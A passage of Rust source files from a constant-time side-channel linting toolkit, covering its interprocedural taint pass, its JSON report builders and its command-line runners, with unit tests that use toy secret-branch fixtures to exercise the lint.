                        if sums[c].cause.is_empty() {
                            sums[c].cause = format!("receives secrets from `{}`", g.fns[i].qual);
                        }
                    }
                }
            }
        }

        // Return taint: `return expr` or the trailing expression of a
        // value-returning function mentioning local taint.
        let returnish = toks.first().map(|t| t.text == "return").unwrap_or(false)
            || (Some(k) == last_expr && !g.fns[i].ret.is_empty() && !code.ends_with(';'));
        if returnish
            && !sums[i].returns_secret
            && !g.fns[i].ret.is_empty()
            && (0..toks.len()).any(|ti| local.occurrence_tainted(&chars, &toks, ti))
        {
            sums[i].returns_secret = true;
            changed = true;
            if sums[i].cause.is_empty() {
                sums[i].cause = "returns a locally tainted value".to_string();
            }
        }
    }
    changed
}

/// How a call site was written, which governs how aggressively taint
/// may cross it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum CallKind {
    /// `helper(x)` — free function.
    Free,
    /// `Type::method(x)` — explicit impl qualifier.
    Qualified,
    /// `expr.method(x)` — receiver type unknown to the lexer.
    Method,
}

/// A resolved call site inside one statement.
struct ResolvedCall {
    /// Char index of the callee name token.
    tok_start: usize,
    kind: CallKind,
    /// Candidate callee indices, already narrowed by the propagation
    /// policy (see [`calls_in`]); empty sites are dropped.
    cands: Vec<usize>,
}

/// Call sites in a statement, resolved under the propagation policy:
///
/// * **Qualified** calls bind to the exact `Type::name` match only.
/// * **Free** and **method** calls bind only when the bare name is
///   *unique* in the workspace — an ambiguous homonym (`add` on both
///   `Fpr` and `Counter`, `record` on three observer types) is dropped
///   rather than over-connected, because binding a `.len()` on a `Vec`
///   to some workspace type's `len` would cascade taint through every
///   caller in the tree. The region annotations on the core arithmetic
///   cover the flows this deliberately forgoes; DESIGN.md records the
///   trade.
///
/// Self-calls are kept (recursion saturates harmlessly).
fn calls_in(stmt: &crate::scan::Stmt, g: &CallGraph) -> Vec<ResolvedCall> {
    let code = stmt.code.trim();
    let chars: Vec<char> = code.chars().collect();
    let toks = idents(code);
    let mut out = Vec::new();
    for (ti, t) in toks.iter().enumerate() {
        if lint::is_keyword(&t.text) || t.text.starts_with(char::is_uppercase) {
            continue;
        }
        let mut j = t.end;
        while chars.get(j) == Some(&' ') {
            j += 1;
        }
        if chars.get(j) == Some(&'!') || chars.get(j) != Some(&'(') {
            continue;
        }
        let recv = ti
            .checked_sub(1)
            .and_then(|p| toks.get(p))
            .filter(|prev| {
                prev.text.starts_with(char::is_uppercase)
                    && chars.get(prev.end..t.start).map(|s| s.iter().collect::<String>())
                        == Some("::".to_string())
            })
            .map(|prev| prev.text.clone());
        let kind = if recv.is_some() {
            CallKind::Qualified
        } else if t.start > 0 && chars.get(t.start - 1) == Some(&'.') {
            CallKind::Method
        } else {
            CallKind::Free
        };
        let cands: Vec<usize> = match (&recv, kind) {
            (Some(r), _) => {
                let qual = format!("{r}::{}", t.text);
                g.resolve(&t.text).filter(|&i| g.fns[i].qual == qual).collect()
            }
            (None, _) => {
                let all: Vec<usize> = g.resolve(&t.text).collect();
                if all.len() == 1 {
                    all
                } else {
                    Vec::new()
                }
            }
        };
        if !cands.is_empty() {
            out.push(ResolvedCall { tok_start: t.start, kind, cands });
        }
    }
    out
}

/// Which of `callee`'s parameter names receive taint at the call whose
/// name token starts at `tok_start`.
///
/// The argument span is split on top-level commas and matched to the
/// parameter list by position (skipping the `self` receiver for
/// `.method(…)` syntax); a tainted method receiver taints `self`. When
/// the arities do not line up (closures, macros between, re-exports the
/// graph cannot see), every parameter is tainted if *any* argument is —
/// conservative over-taint rather than a silent miss.
fn tainted_callee_params(
    chars: &[char],
    toks: &[Tok],
    tok_start: usize,
    local: &lint::Taint,
    callee: &crate::graph::FnInfo,
) -> Vec<String> {
    // Locate the opening paren after the name token.
    let name_end = toks.iter().find(|t| t.start == tok_start).map(|t| t.end).unwrap_or(tok_start);
    let mut open = name_end;
    while chars.get(open) == Some(&' ') {
        open += 1;
    }
    if chars.get(open) != Some(&'(') {
        return Vec::new();
    }
    let mut depth = 0usize;
    let mut close = chars.len();
    for (j, &c) in chars.iter().enumerate().skip(open) {
        match c {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    close = j;
                    break;
                }
            }
            _ => {}
        }
    }

    // Top-level comma split of the argument span into char ranges.
    let mut arg_spans: Vec<(usize, usize)> = Vec::new();
    let mut lo = open + 1;
    let mut d = 0i32;
    for (j, &c) in chars.iter().enumerate().take(close).skip(open + 1) {
        match c {
            '(' | '[' => d += 1,
            ')' | ']' => d -= 1,
            ',' if d == 0 => {
                arg_spans.push((lo, j));
                lo = j + 1;
            }
            _ => {}
        }
    }
    if lo < close {
        arg_spans.push((lo, close));
    }
    let arg_tainted: Vec<bool> = arg_spans
        .iter()
        .map(|&(a, b)| {
            (0..toks.len()).any(|ti| {
                toks[ti].start >= a
                    && toks[ti].end <= b
                    && local.occurrence_tainted(chars, toks, ti)
            })
        })
        .collect();

    let method_syntax = tok_start > 0 && chars.get(tok_start - 1) == Some(&'.');
    let recv_tainted = method_syntax
        && (0..toks.len())
            .any(|ti| toks[ti].end < tok_start && local.occurrence_tainted(chars, toks, ti));

    let mut out = Vec::new();
    let params = &callee.params;
    let has_self = params.first().map(|p| p.name == "self").unwrap_or(false);
    if recv_tainted && has_self {
        out.push("self".to_string());
    }
    let positional: &[crate::graph::Param] =
        if method_syntax && has_self { &params[1..] } else { params };
    if positional.len() == arg_tainted.len() {
        for (p, &t) in positional.iter().zip(&arg_tainted) {
            if t {
                out.push(p.name.clone());
            }
        }
    } else if arg_tainted.iter().any(|&t| t) || recv_tainted {
        // Arity mismatch: conservative.
        for p in params {
            if !out.contains(&p.name) {
                out.push(p.name.clone());
            }
        }
    }
    out
}

/// The interprocedural reporting pass: replays every tainted, non-test
/// function body through the region lint's rule checks, seeding taint
/// from the function's summary instead of an annotation. Statements
/// inside explicit `ct: secret` regions are skipped (the region lint
/// owns them); `// ct: allow(reason)` works exactly as in the lint.
pub fn taint_violations(g: &CallGraph, map: &TaintMap, allow: &CallAllowlist) -> Vec<Violation> {
    let mut out: Vec<Violation> = Vec::new();
    for (i, f) in g.fns.iter().enumerate() {
        if f.is_test || !map.summaries[i].is_tainted() {
            continue;
        }
        if map.summaries[i].tainted_params.is_empty() {
            // Only the return is secret: nothing to track in the body.
            continue;
        }
        let mut local = lint::Taint::new();
        for p in &map.summaries[i].tainted_params {
            local.seed(p);
        }
        for p in &map.summaries[i].public_paths {
            local.seed_public(p);
        }
        let (file_idx, stmt_idxs) = (g.body_stmts[i].0, &g.body_stmts[i].1);
        let mut in_region = false;
        let mut pending_allow = false;
        for si in stmt_idxs {
            let stmt = &g.files[file_idx].stmts[*si];
            let code = stmt.code.trim();
            let mut allowed = false;
            for (_, d) in &stmt.directives {
                match d {
                    Directive::Secret(vars) => {
                        in_region = true;
                        for v in vars {
                            local.seed(v);
                        }
                    }
                    Directive::Public(paths) => {
                        for p in paths.iter().filter(|p| p.contains('.')) {
                            local.seed_public(p);
                        }
                    }
                    Directive::End => in_region = false,
                    Directive::Allow(_) => {
                        if code.is_empty() {
                            pending_allow = true;
                        } else {
                            allowed = true;
                        }
                    }
                    Directive::Bad(_) => {} // lint reports these
                }
            }
            if code.is_empty() {
                continue;
            }
            if pending_allow {
                allowed = true;
                pending_allow = false;
            }
            let toks = idents(code);
            let skip = in_region
                || allowed
                || lint::is_attribute(code)
                || lint::is_debug_assert(code, &toks);
            if !skip {
                lint::check_line(code, &toks, &local, allow, |rule, msg| {
                    out.push(Violation {
                        file: f.file.clone(),
                        line: stmt.line,
                        rule,
                        message: format!("[interprocedural, via {}] {msg}", f.qual),
                        snippet: stmt.raw.trim().to_string(),
                    });
                });
            }
            local.observe(code, &toks);
        }
    }
    out.sort_by(|a, b| (&a.file, a.line, a.rule).cmp(&(&b.file, b.line, b.rule)));
    out.dedup_by(|a, b| a.fingerprint() == b.fingerprint());
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lint::Rule;

    const SRC: &str = "\
pub struct SigningKey { f: Vec<i64> }

impl SigningKey {
    pub fn coeff(&self, i: usize) -> i64 {
        self.f[i]
    }
}

pub fn norm(sk: &SigningKey) -> i64 {
    let c = sk.coeff(0);
    helper(c)
}

fn helper(v: i64) -> i64 {
    if v > 0 {
        return v;
    }
    -v
}

pub fn public_len(xs: &[u8]) -> usize {
    xs.len()
}
";

    fn build() -> (CallGraph, TaintMap) {
        let g = CallGraph::from_sources(&[("crates/x/src/k.rs", SRC)]);
        let m = TaintMap::compute(&g);
        (g, m)
    }

    #[test]
    fn seed_types_taint_params_and_returns() {
        let (g, m) = build();
        let norm = g.fns.iter().position(|f| f.qual == "norm").unwrap();
        assert!(m.summaries[norm].tainted_params.contains("sk"), "{:?}", m.summaries[norm]);
        let coeff = g.fns.iter().position(|f| f.qual == "SigningKey::coeff").unwrap();
        assert!(m.summaries[coeff].tainted_params.contains("self"));
    }

    #[test]
    fn taint_flows_through_calls_and_returns() {
        let (g, m) = build();
        // `coeff` returns self-derived data → returns_secret; the
        // binding `c` in `norm` becomes tainted; `helper(c)` taints
        // helper's param; helper returns taint.
        let coeff = g.fns.iter().position(|f| f.qual == "SigningKey::coeff").unwrap();
        assert!(m.summaries[coeff].returns_secret, "{:?}", m.summaries[coeff]);
        let helper = g.fns.iter().position(|f| f.qual == "helper").unwrap();
        assert!(m.summaries[helper].tainted_params.contains("v"));
        assert!(m.summaries[helper].returns_secret);
    }

    #[test]
    fn public_functions_stay_clean() {
        let (g, m) = build();
        let pl = g.fns.iter().position(|f| f.qual == "public_len").unwrap();
        assert!(!m.summaries[pl].is_tainted(), "{:?}", m.summaries[pl]);
    }

    #[test]
    fn violations_fire_outside_annotated_regions() {
        let (g, m) = build();
        let v = taint_violations(&g, &m, &CallAllowlist::workspace_default());
        // helper's `if v > 0` is a secret branch; coeff's `self.f[i]`
        // is NOT flagged (public index into a secret base is fine).
        assert!(
            v.iter().any(|x| x.rule == Rule::SecretBranch && x.snippet.contains("if v > 0")),
            "{v:?}"
        );
        assert!(!v.iter().any(|x| x.rule == Rule::SecretIndex), "{v:?}");
    }

    #[test]
    fn tainted_outside_regions_lists_discoveries() {
        let (g, m) = build();
        let names = m.tainted_outside_regions(&g);
        assert!(names.contains(&"helper"), "{names:?}");
        assert!(names.contains(&"norm"), "{names:?}");
        assert!(!names.contains(&"public_len"), "{names:?}");
    }

    #[test]
    fn allow_suppresses_interprocedural_findings() {
        let src = "\
pub fn leak(sk: &SigningKey) -> u32 {
    if sk.bits() > 0 {
        // ct: allow(specified behaviour: reject invalid keys)
        return 1;
    }
    0
}
pub struct SigningKey;
impl SigningKey {
    pub fn bits(&self) -> u32 {
        0
    }
}
";
        let g = CallGraph::from_sources(&[("crates/x/src/a.rs", src)]);
        let m = TaintMap::compute(&g);
        let v = taint_violations(&g, &m, &CallAllowlist::workspace_default());
        // The secret branch on `sk` still fires (the allow is on the
        // return statement, not the branch)…
        assert!(v.iter().any(|x| x.rule == Rule::SecretBranch), "{v:?}");
        // …but nothing is reported at the allowed line.
        assert!(!v.iter().any(|x| x.snippet.starts_with("return 1")), "{v:?}");
    }
}
