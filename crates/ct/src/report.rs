//! Machine-readable JSON reports for the `ct_lint` and `ct_dyn`
//! binaries, rendered with `falcon-bench`'s [`Json`] writer so the
//! on-disk shape matches the other BENCH_/report artifacts.
//!
//! Reports are deterministic: fields are insertion-ordered, violations
//! arrive pre-sorted from the lint, and no timestamps or absolute paths
//! are embedded — two runs over the same tree render byte-identical
//! documents (asserted by the crate's tests and diffable in CI).

use crate::baseline::Baseline;
use crate::dyncheck::{DynConfig, Outcome};
use crate::lint::{TreeOutcome, Violation};
use falcon_bench::json::Json;

/// Builds the `ct_lint` report document.
///
/// `new` are violations absent from the baseline (CI-failing);
/// `baselined` are grandfathered ones.
pub fn lint_report(outcome: &TreeOutcome, baseline: &Baseline) -> Json {
    let (mut new_v, mut old_v): (Vec<&Violation>, Vec<&Violation>) = (Vec::new(), Vec::new());
    for v in &outcome.violations {
        if baseline.contains(v) {
            old_v.push(v);
        } else {
            new_v.push(v);
        }
    }
    let stale = baseline.stale(&outcome.violations);
    Json::obj()
        .field("tool", "ct_lint")
        .field("files", outcome.files)
        .field("lines", outcome.lines)
        .field("regions", outcome.regions)
        .field("total_violations", outcome.violations.len())
        .field("new_violations", new_v.len())
        .field("baselined_violations", old_v.len())
        .field("stale_baseline_entries", Json::Arr(stale.into_iter().map(Json::Str).collect()))
        .field(
            "violations",
            Json::Arr(outcome.violations.iter().map(|v| violation_json(v, baseline)).collect()),
        )
}

fn violation_json(v: &Violation, baseline: &Baseline) -> Json {
    Json::obj()
        .field("file", v.file.as_str())
        .field("line", v.line)
        .field("rule", v.rule.id())
        .field("message", v.message.as_str())
        .field("snippet", v.snippet.as_str())
        .field("fp", v.fingerprint())
        .field("baselined", baseline.contains(v))
}

/// Builds the `ct_dyn` report document. `leaky` is the detector-fixture
/// outcome, which must have diverged for the harness to be trusted.
pub fn dyn_report(cfg: &DynConfig, primitives: &[Outcome], leaky: &Outcome) -> Json {
    let failures = primitives.iter().filter(|o| !o.constant_time).count();
    Json::obj()
        .field("tool", "ct_dyn")
        .field("iters", cfg.iters)
        .field("seed", cfg.seed)
        .field("failures", failures)
        .field("leak_detector_ok", !leaky.constant_time)
        .field("primitives", Json::Arr(primitives.iter().map(outcome_json).collect()))
        .field("leaky_fixture", outcome_json(leaky))
}

fn outcome_json(o: &Outcome) -> Json {
    Json::obj()
        .field("name", o.name)
        .field("runs", o.runs)
        .field("signature_sites", o.sig_len)
        .field("constant_time", o.constant_time)
        .field("detail", o.detail.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::CallAllowlist;

    #[test]
    fn lint_report_is_deterministic() {
        let src = "// ct: secret(x)\nif x { y(); }\n// ct: end\n";
        let allow = CallAllowlist::workspace_default();
        let mk = || {
            let fo = crate::lint::lint_source("f.rs", src, &allow);
            let out = TreeOutcome {
                violations: fo.violations,
                files: 1,
                regions: fo.regions,
                lines: fo.lines,
            };
            lint_report(&out, &Baseline::default()).render()
        };
        assert_eq!(mk(), mk());
    }

    #[test]
    fn dyn_report_is_deterministic() {
        let cfg = DynConfig { iters: 8, seed: 7 };
        let mk = || {
            let prims = crate::dyncheck::check_all(&cfg);
            let leaky = crate::dyncheck::check_leaky(&cfg);
            dyn_report(&cfg, &prims, &leaky).render()
        };
        assert_eq!(mk(), mk());
    }
}
