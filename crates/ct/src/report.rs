//! Machine-readable JSON reports for the `ct_lint` and `ct_dyn`
//! binaries, rendered with `falcon-bench`'s [`Json`] writer so the
//! on-disk shape matches the other BENCH_/report artifacts.
//!
//! Reports are deterministic: fields are insertion-ordered, violations
//! arrive pre-sorted from the lint, and no timestamps or absolute paths
//! are embedded — two runs over the same tree render byte-identical
//! documents (asserted by the crate's tests and diffable in CI).

use crate::baseline::Baseline;
use crate::dyncheck::{DynConfig, Outcome, PRIMITIVE_FNS};
use crate::graph::CallGraph;
use crate::lint::{TreeOutcome, Violation};
use crate::sites::{covers_primitive, LeakSite, SiteMap};
use crate::summary::TaintMap;
use falcon_bench::json::Json;
use std::collections::BTreeMap;

/// Builds the `ct_lint` report document.
///
/// `new` are violations absent from the baseline (CI-failing);
/// `baselined` are grandfathered ones. Since v2 the outcome merges
/// three passes — the region lint, the interprocedural taint pass and
/// the unsafe/determinism audits — so `by_rule` breaks the totals down
/// per rule id.
pub fn lint_report(outcome: &TreeOutcome, baseline: &Baseline) -> Json {
    let (mut new_v, mut old_v): (Vec<&Violation>, Vec<&Violation>) = (Vec::new(), Vec::new());
    for v in &outcome.violations {
        if baseline.contains(v) {
            old_v.push(v);
        } else {
            new_v.push(v);
        }
    }
    let stale = baseline.stale(&outcome.violations);
    let mut by_rule: BTreeMap<&'static str, usize> = BTreeMap::new();
    for v in &outcome.violations {
        *by_rule.entry(v.rule.id()).or_default() += 1;
    }
    let mut rule_obj = Json::obj();
    for (id, n) in by_rule {
        rule_obj = rule_obj.field(id, n);
    }
    Json::obj()
        .field("tool", "ct_lint")
        .field(
            "passes",
            Json::Arr(
                ["regions", "interprocedural", "unsafe-audit", "determinism"]
                    .iter()
                    .map(|s| Json::Str(s.to_string()))
                    .collect(),
            ),
        )
        .field("files", outcome.files)
        .field("lines", outcome.lines)
        .field("regions", outcome.regions)
        .field("total_violations", outcome.violations.len())
        .field("new_violations", new_v.len())
        .field("baselined_violations", old_v.len())
        .field("by_rule", rule_obj)
        .field("stale_baseline_entries", Json::Arr(stale.into_iter().map(Json::Str).collect()))
        .field(
            "violations",
            Json::Arr(outcome.violations.iter().map(|v| violation_json(v, baseline)).collect()),
        )
}

/// Builds the `ct_graph` report document: call-graph shape plus the
/// taint summary of every secret-handling function. The
/// `tainted_outside_regions` list is the pass's headline — functions
/// the annotation discipline alone would never have checked.
pub fn graph_report(g: &CallGraph, map: &TaintMap) -> Json {
    let tainted: Vec<usize> =
        (0..g.fns.len()).filter(|&i| !g.fns[i].is_test && map.summaries[i].is_tainted()).collect();
    let outside: Vec<&str> = map.tainted_outside_regions(g);
    let summaries: Vec<Json> = tainted
        .iter()
        .map(|&i| {
            let f = &g.fns[i];
            let s = &map.summaries[i];
            Json::obj()
                .field("qual", f.qual.as_str())
                .field("file", f.file.as_str())
                .field("line", f.line)
                .field("module", f.module.as_str())
                .field(
                    "tainted_params",
                    Json::Arr(s.tainted_params.iter().map(|p| Json::Str(p.clone())).collect()),
                )
                .field("returns_secret", s.returns_secret)
                .field("has_region", f.has_region)
                .field("cause", s.cause.as_str())
        })
        .collect();
    let edges = g.edge_stats();
    Json::obj()
        .field("tool", "ct_graph")
        .field("functions", g.fns.len())
        .field("call_sites", g.calls.len())
        .field("resolved_edges", edges.resolved)
        .field("dropped_edges", edges.dropped())
        .field(
            "dropped_edge_breakdown",
            Json::obj()
                .field("ambiguous_homonym", edges.ambiguous)
                .field("unresolved", edges.unresolved),
        )
        .field("structs", g.structs.len())
        .field("fixpoint_rounds", map.rounds)
        .field("tainted_functions", tainted.len())
        .field("tainted_outside_regions", outside.len())
        .field(
            "tainted_outside_region_names",
            Json::Arr(outside.iter().map(|s| Json::Str(s.to_string())).collect()),
        )
        .field("summaries", Json::Arr(summaries))
}

/// Builds the `ct_sites` report document: the ranked leakage-site map
/// plus the dynamic-checker coverage cross-check. `baseline` marks
/// which sites are already reviewed (the `new_sites` count is the
/// CI-failing number).
pub fn sites_report(
    g: &CallGraph,
    map: &TaintMap,
    sites: &SiteMap,
    known: &std::collections::BTreeSet<String>,
) -> Json {
    let mut by_kind: BTreeMap<&'static str, usize> = BTreeMap::new();
    for s in &sites.sites {
        *by_kind.entry(s.kind.id()).or_default() += 1;
    }
    let mut kind_obj = Json::obj();
    for (id, n) in by_kind {
        kind_obj = kind_obj.field(id, n);
    }
    let new_sites = sites.sites.iter().filter(|s| !known.contains(&s.fingerprint())).count();
    let coverage: Vec<Json> = PRIMITIVE_FNS
        .iter()
        .map(|(name, fns)| {
            Json::obj().field("primitive", *name).field("covered", covers_primitive(g, map, fns))
        })
        .collect();
    let covered = PRIMITIVE_FNS.iter().filter(|(_, fns)| covers_primitive(g, map, fns)).count();
    Json::obj()
        .field("tool", "ct_sites")
        .field("functions_scanned", sites.scanned.len())
        .field("total_sites", sites.sites.len())
        .field("new_sites", new_sites)
        .field("by_kind", kind_obj)
        .field("dyn_primitives", PRIMITIVE_FNS.len())
        .field("dyn_primitives_covered", covered)
        .field("dyn_coverage", Json::Arr(coverage))
        .field(
            "sites",
            Json::Arr(
                sites
                    .sites
                    .iter()
                    .enumerate()
                    .map(|(rank, s)| site_json(rank + 1, s, known))
                    .collect(),
            ),
        )
}

fn site_json(rank: usize, s: &LeakSite, known: &std::collections::BTreeSet<String>) -> Json {
    Json::obj()
        .field("rank", rank)
        .field("file", s.file.as_str())
        .field("line", s.line)
        .field("fn", s.qual.as_str())
        .field("kind", s.kind.id())
        .field("class", s.class.id())
        .field("width_bits", s.width)
        .field("step", s.step.map(|st| format!("{st:?}")).unwrap_or_default())
        .field("reach", s.reach)
        .field("score", s.score)
        .field("annotated", s.annotated)
        .field("message", s.message.as_str())
        .field("snippet", s.snippet.as_str())
        .field("fp", s.fingerprint())
        .field("baselined", known.contains(&s.fingerprint()))
}

fn violation_json(v: &Violation, baseline: &Baseline) -> Json {
    Json::obj()
        .field("file", v.file.as_str())
        .field("line", v.line)
        .field("rule", v.rule.id())
        .field("message", v.message.as_str())
        .field("snippet", v.snippet.as_str())
        .field("fp", v.fingerprint())
        .field("baselined", baseline.contains(v))
}

/// Builds the `ct_dyn` report document. `leaky` is the detector-fixture
/// outcome, which must have diverged for the harness to be trusted.
pub fn dyn_report(cfg: &DynConfig, primitives: &[Outcome], leaky: &Outcome) -> Json {
    let failures = primitives.iter().filter(|o| !o.constant_time).count();
    Json::obj()
        .field("tool", "ct_dyn")
        .field("iters", cfg.iters)
        .field("seed", cfg.seed)
        .field("failures", failures)
        .field("leak_detector_ok", !leaky.constant_time)
        .field("primitives", Json::Arr(primitives.iter().map(outcome_json).collect()))
        .field("leaky_fixture", outcome_json(leaky))
}

fn outcome_json(o: &Outcome) -> Json {
    Json::obj()
        .field("name", o.name)
        .field("runs", o.runs)
        .field("signature_sites", o.sig_len)
        .field("constant_time", o.constant_time)
        .field("detail", o.detail.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::CallAllowlist;

    #[test]
    fn lint_report_is_deterministic() {
        let src = "// ct: secret(x)\nif x { y(); }\n// ct: end\n";
        let allow = CallAllowlist::workspace_default();
        let mk = || {
            let fo = crate::lint::lint_source("f.rs", src, &allow);
            let out = TreeOutcome {
                violations: fo.violations,
                files: 1,
                regions: fo.regions,
                lines: fo.lines,
            };
            lint_report(&out, &Baseline::default()).render()
        };
        assert_eq!(mk(), mk());
    }

    #[test]
    fn dyn_report_is_deterministic() {
        let cfg = DynConfig { iters: 8, seed: 7 };
        let mk = || {
            let prims = crate::dyncheck::check_all(&cfg);
            let leaky = crate::dyncheck::check_leaky(&cfg);
            dyn_report(&cfg, &prims, &leaky).render()
        };
        assert_eq!(mk(), mk());
    }
}
