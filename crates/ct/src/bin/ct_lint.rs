//! Static constant-time verification runner.
//!
//! Runs the three lexical passes over every `.rs` file under the
//! workspace root — the `ct: secret` region lint, the interprocedural
//! taint pass (type-seeded, call-graph propagated) and the
//! unsafe/determinism audits — merges their findings (deduplicated by
//! fingerprint), prints them as `file:line: [rule] message`, optionally
//! writes a JSON report, and compares against the checked-in baseline
//! (`ct-baseline.jsonl` at the root).
//!
//! ```text
//! ct_lint [--root DIR] [--json FILE] [--baseline FILE] [--update-baseline]
//! ```
//!
//! `--update-baseline` prints the added/removed fingerprints (with
//! their locations) before rewriting, so a baseline refresh is a
//! reviewable diff rather than a silent reset.
//!
//! Exit status: 0 when no new (non-baselined) violations, 1 when new
//! violations exist, 2 on usage or I/O errors.

use falcon_ct::report::lint_report;
use falcon_ct::{Baseline, CallAllowlist};
use std::path::PathBuf;
use std::process::ExitCode;

struct Args {
    root: PathBuf,
    json: Option<PathBuf>,
    baseline: Option<PathBuf>,
    update_baseline: bool,
}

fn parse_args() -> Result<Args, String> {
    let mut args =
        Args { root: default_root(), json: None, baseline: None, update_baseline: false };
    let mut it = std::env::args().skip(1);
    while let Some(a) = it.next() {
        match a.as_str() {
            "--root" => args.root = it.next().ok_or("--root needs a value")?.into(),
            "--json" => args.json = Some(it.next().ok_or("--json needs a value")?.into()),
            "--baseline" => {
                args.baseline = Some(it.next().ok_or("--baseline needs a value")?.into())
            }
            "--update-baseline" => args.update_baseline = true,
            "--help" | "-h" => return Err(
                "usage: ct_lint [--root DIR] [--json FILE] [--baseline FILE] [--update-baseline]"
                    .into(),
            ),
            other => return Err(format!("unknown argument `{other}`")),
        }
    }
    Ok(args)
}

/// The workspace root: the nearest ancestor of the current directory
/// containing `Cargo.toml` with a `[workspace]` table, else `.`.
fn default_root() -> PathBuf {
    let mut dir = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("."));
    loop {
        let manifest = dir.join("Cargo.toml");
        if let Ok(text) = std::fs::read_to_string(&manifest) {
            if text.contains("[workspace]") {
                return dir;
            }
        }
        if !dir.pop() {
            return PathBuf::from(".");
        }
    }
}

fn main() -> ExitCode {
    let args = match parse_args() {
        Ok(a) => a,
        Err(msg) => {
            eprintln!("{msg}");
            return ExitCode::from(2);
        }
    };
    let _span = falcon_obs::span("ct.lint");
    let baseline_path =
        args.baseline.clone().unwrap_or_else(|| args.root.join("ct-baseline.jsonl"));

    let allow = CallAllowlist::workspace_default();
    let mut outcome = match falcon_ct::lint_tree(&args.root, &allow) {
        Ok(o) => o,
        Err(e) => {
            eprintln!("ct_lint: scanning {}: {e}", args.root.display());
            return ExitCode::from(2);
        }
    };

    // Interprocedural taint pass over the same tree.
    let graph = match falcon_ct::CallGraph::build(&args.root) {
        Ok(g) => g,
        Err(e) => {
            eprintln!("ct_lint: building call graph under {}: {e}", args.root.display());
            return ExitCode::from(2);
        }
    };
    let taint = falcon_ct::TaintMap::compute(&graph);
    outcome.violations.extend(falcon_ct::summary::taint_violations(&graph, &taint, &allow));

    // Unsafe-audit and determinism passes.
    match falcon_ct::audit::audit_tree(&args.root) {
        Ok(v) => outcome.violations.extend(v),
        Err(e) => {
            eprintln!("ct_lint: auditing {}: {e}", args.root.display());
            return ExitCode::from(2);
        }
    }

    // Merge: sort and deduplicate by fingerprint (a region finding and
    // an interprocedural finding at the same statement hash alike).
    outcome.violations.sort_by(|a, b| (&a.file, a.line, a.rule).cmp(&(&b.file, b.line, b.rule)));
    outcome.violations.dedup_by(|a, b| a.fingerprint() == b.fingerprint());

    falcon_obs::counter("ct.lint.files").add(outcome.files as u64);
    falcon_obs::counter("ct.lint.violations").add(outcome.violations.len() as u64);

    if args.update_baseline {
        // Human-readable diff against the previous baseline before
        // rewriting it.
        let previous = Baseline::load(&baseline_path).unwrap_or_default();
        let mut added = 0usize;
        for v in &outcome.violations {
            if !previous.contains(v) {
                println!(
                    "baseline + {} {}:{}: [{}] {}",
                    v.fingerprint(),
                    v.file,
                    v.line,
                    v.rule,
                    v.snippet
                );
                added += 1;
            }
        }
        let removed = previous.stale(&outcome.violations);
        for fp in &removed {
            println!("baseline - {fp} (no longer present)");
        }
        let text = Baseline::render(&outcome.violations);
        if let Err(e) = std::fs::write(&baseline_path, &text) {
            eprintln!("ct_lint: writing {}: {e}", baseline_path.display());
            return ExitCode::from(2);
        }
        println!(
            "ct_lint: baselined {} violation(s) into {} (+{added}, -{})",
            outcome.violations.len(),
            baseline_path.display(),
            removed.len(),
        );
    }

    let baseline = match Baseline::load(&baseline_path) {
        Ok(b) => b,
        Err(e) => {
            eprintln!("ct_lint: {e}");
            return ExitCode::from(2);
        }
    };

    let mut new = 0usize;
    for v in &outcome.violations {
        if baseline.contains(v) {
            println!("{v} [baselined]");
        } else {
            println!("{v}");
            new += 1;
        }
    }
    for fp in baseline.stale(&outcome.violations) {
        eprintln!("ct_lint: stale baseline entry {fp} (violation no longer present — prune it)");
    }

    if let Some(json_path) = &args.json {
        let doc = lint_report(&outcome, &baseline).render();
        if let Err(e) = std::fs::write(json_path, doc) {
            eprintln!("ct_lint: writing {}: {e}", json_path.display());
            return ExitCode::from(2);
        }
    }

    println!(
        "ct_lint: {} file(s), {} line(s), {} secret region(s): {} violation(s) ({} new, {} baselined)",
        outcome.files,
        outcome.lines,
        outcome.regions,
        outcome.violations.len(),
        new,
        outcome.violations.len() - new,
    );
    if new > 0 {
        ExitCode::from(1)
    } else {
        ExitCode::SUCCESS
    }
}
