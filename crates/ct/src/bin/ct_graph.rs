//! Call-graph and taint-summary dumper.
//!
//! Builds the workspace call graph, computes the interprocedural taint
//! summaries to a fixpoint, prints the secret-handling functions and
//! optionally writes the full JSON artifact CI uploads.
//!
//! ```text
//! ct_graph [--root DIR] [--json FILE] [--assert-discoveries N]
//! ```
//!
//! `--assert-discoveries N` exits 1 unless the pass found at least `N`
//! secret-tainted functions *outside* annotated `ct: secret` regions —
//! the CI guard that the analysis keeps seeing through the annotation
//! discipline instead of merely restating it.
//!
//! Exit status: 0 on success, 1 on a failed assertion, 2 on usage or
//! I/O errors.

use falcon_ct::report::graph_report;
use falcon_ct::{CallGraph, TaintMap};
use std::path::PathBuf;
use std::process::ExitCode;

struct Args {
    root: PathBuf,
    json: Option<PathBuf>,
    assert_discoveries: Option<usize>,
}

fn parse_args() -> Result<Args, String> {
    let mut args = Args { root: default_root(), json: None, assert_discoveries: None };
    let mut it = std::env::args().skip(1);
    while let Some(a) = it.next() {
        match a.as_str() {
            "--root" => args.root = it.next().ok_or("--root needs a value")?.into(),
            "--json" => args.json = Some(it.next().ok_or("--json needs a value")?.into()),
            "--assert-discoveries" => {
                args.assert_discoveries = Some(
                    it.next()
                        .ok_or("--assert-discoveries needs a value")?
                        .parse()
                        .map_err(|e| format!("--assert-discoveries: {e}"))?,
                )
            }
            "--help" | "-h" => {
                return Err(
                    "usage: ct_graph [--root DIR] [--json FILE] [--assert-discoveries N]".into()
                )
            }
            other => return Err(format!("unknown argument `{other}`")),
        }
    }
    Ok(args)
}

/// The workspace root: the nearest ancestor of the current directory
/// containing `Cargo.toml` with a `[workspace]` table, else `.`.
fn default_root() -> PathBuf {
    let mut dir = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("."));
    loop {
        let manifest = dir.join("Cargo.toml");
        if let Ok(text) = std::fs::read_to_string(&manifest) {
            if text.contains("[workspace]") {
                return dir;
            }
        }
        if !dir.pop() {
            return PathBuf::from(".");
        }
    }
}

fn main() -> ExitCode {
    let args = match parse_args() {
        Ok(a) => a,
        Err(msg) => {
            eprintln!("{msg}");
            return ExitCode::from(2);
        }
    };
